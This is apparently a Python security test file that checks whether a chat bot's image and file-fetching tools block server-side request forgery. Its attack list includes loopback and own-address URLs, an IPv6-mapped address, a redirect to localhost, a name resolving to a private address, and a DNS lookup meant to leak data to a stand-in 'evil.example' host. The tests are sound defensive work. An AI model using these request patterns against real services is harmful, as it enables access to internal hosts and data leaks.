"""Attacks through tools that fetch: ``send_image``, ``send_file`` and ``view_image``.

The settings allow as much as an operator can allow: the platform's files are on this machine, and
the rules of the chat name the attacked servers. Without the defence, the same tools fetch every
address.
"""

from collections.abc import Awaitable, Callable, Sequence
from contextlib import AsyncExitStack
from pathlib import Path
from tempfile import TemporaryDirectory

from nekro_core.chat import ChatKey
from nekro_core.delivery.media.fetch import Fetcher
from nekro_core.delivery.media.fetch_policy import FetchPolicy
from nekro_core.delivery.media.settings import MediaSettings
from nekro_core.delivery.media.store import MediaStore
from nekro_core.plugins.authoring.chat_network import ChatNetwork, PluginMediaKeeper
from nekro_core.plugins.host.builtin import builtin_folder
from nekro_core.plugins.host.registry import PluginRegistry
from nekro_core.plugins.host.tool_calls import call_tool
from nekro_core.sandbox.box import Answer, CallFailure, CallReturn, GuestCall
from nekro_core.sandbox.egress import EgressRules
from nekro_core.system.addresses import Address
from nekro_core.tools.outcome import ToolCallFailed
from tests.peers.reach import Anywhere
from tests.peers.visited import own_address, visited
from tests.plugins.world import GROUP, World
from tests.sandbox.attacks.attack import PRELUDE, Attack, GotThrough, Ground, Without, judge
from tests.sandbox.run_code import Tools

TOOLS = ("send_image", "send_file", "view_image")
OUTER, INNER, DENIED = "pictures.example", "inside.example", "secret-of-the-box.evil.example"


class _FirstHop:
    """The chat's own policy, but it treats ``OUTER`` as the address of another machine, because a
    test has only this machine."""

    def __init__(self, reach: FetchPolicy) -> None:
        self._reach = reach
        self.check_host, self.count_bytes = reach.check_host, reach.count_bytes

    def check_addresses(self, host: str, port: int, addresses: Sequence[Address]) -> None:
        if host != OUTER:
            self._reach.check_addresses(host, port, addresses)


class _Network(ChatNetwork):
    def reach(self, url: str, chat: ChatKey | None = None) -> FetchPolicy:  # type: ignore[override]
        return _FirstHop(super().reach(url, chat))


def fetched(*urls: str, denied: bool = False) -> Callable[[Ground], Awaitable[GotThrough]]:
    """An attack whose code calls each tool with each address. No server may be reached. If the host
    is ``denied``, its name may not even be looked up."""

    async def act(ground: Ground) -> GotThrough:
        asked: list[str] = []

        async def resolve(host: str, _: int) -> list[str]:
            asked.append(host)
            return ["127.0.0.1"] if host.endswith(".example") else [host]

        async with AsyncExitStack() as stack:
            server = stack.enter_context(visited())
            folder = Path(stack.enter_context(TemporaryDirectory()))
            named = [url.format(port=server.port, own=own_address()) for url in urls]
            hosts = {f"{host}:{server.port}" for host in (own_address(), "127.0.0.1", "[::1]")}
            names = {f"{name}:{server.port}" for name in (OUTER, INNER)}
            settings = MediaSettings(private_hosts=frozenset(hosts), silent_s=20.0)
            rules = EgressRules.parse(
                [] if denied else [*hosts, *names], [*hosts] if not denied else []
            )
            reach = Anywhere() if ground.naive else None
            fetcher = Fetcher(settings, reach, resolve=resolve)
            store = await stack.enter_async_context(
                MediaStore(folder / "kept", settings, fetcher=fetcher)
            )
            network = _Network(rules=lambda _: rules, spend=lambda _: lambda _: None)
            world = World(folder)
            media = store if ground.naive else PluginMediaKeeper(store, network)
            object.__setattr__(world.services, "media", media)
            (folder / "builtin").mkdir()
            (folder / "builtin" / "chat").symlink_to(builtin_folder("plugins") / "chat")
            plugins = await stack.enter_async_context(world.bot(builtin=folder / "builtin"))
            got = await _tried(ground, plugins, world, named)
            seen = [path for path in server.visits if "/to/" not in path]
            got += [f"a server of the host was asked for {path}" for path in seen[:3]]
            if denied and asked:
                got.append(f"a name server was told {asked[0]}")
        return got

    return act


async def _tried(
    ground: Ground, plugins: PluginRegistry, world: World, urls: Sequence[str]
) -> GotThrough:
    async def answer(asked: GuestCall) -> Answer:
        tool = plugins.tools_for(GROUP).resolve(asked.name)
        assert tool is not None
        outcome = await call_tool(tool, world.ctx(), asked.args, asked.kwargs)
        return (
            CallFailure(outcome.message)
            if isinstance(outcome, ToolCallFailed)
            else CallReturn(repr(outcome))
        )

    code = f"""
for url in {urls!r}:
    for use in (send_image, send_file, view_image):
        try:
            print("NOT HELD:", use(url))
        except ToolError:
            print("held")
"""
    result = await ground.play(PRELUDE + code, tools=Tools(dict.fromkeys(TOOLS, answer)))
    return judge(result, len(TOOLS) * len(urls))


NAIVE = Without(naive=True)

ATTACKS = [
    Attack(
        number=0,
        name="a picture from a server of the host",
        act=fetched("http://127.0.0.1:{port}/", "http://localhost.example:{port}/"),
        without=NAIVE,
    ),
    Attack(
        number=0,
        name="a picture from the machine's own address",
        act=fetched("http://{own}:{port}/", "http://[::ffff:{own}]:{port}/"),
        without=NAIVE,
    ),
    Attack(
        number=0,
        name="a picture that redirects to the host",
        act=fetched(
            f"http://{OUTER}:{{port}}/to/http://127.0.0.1:{{port}}/moved",
            f"http://{OUTER}:{{port}}/to/http://{{own}}:{{port}}/moved",
        ),
        without=NAIVE,
    ),
    Attack(
        number=0,
        name="a picture of an allowed name with a private address",
        act=fetched(f"http://{INNER}:{{port}}/"),
        without=NAIVE,
    ),
    Attack(
        number=0,
        name="data in a name that may not be looked up",
        act=fetched(f"http://{DENIED}:{{port}}/", denied=True),
        without=NAIVE,
    ),
]
